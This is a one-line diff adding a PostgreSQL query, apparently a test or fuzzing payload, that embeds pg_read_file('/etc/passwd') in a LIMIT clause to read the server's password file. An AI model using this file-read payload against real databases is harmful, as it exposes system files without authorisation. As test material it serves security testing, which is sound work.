@@ -1,0 +1,1 @@
+SELECT * FROM canary LIMIT length(pg_read_file('/etc/passwd'))
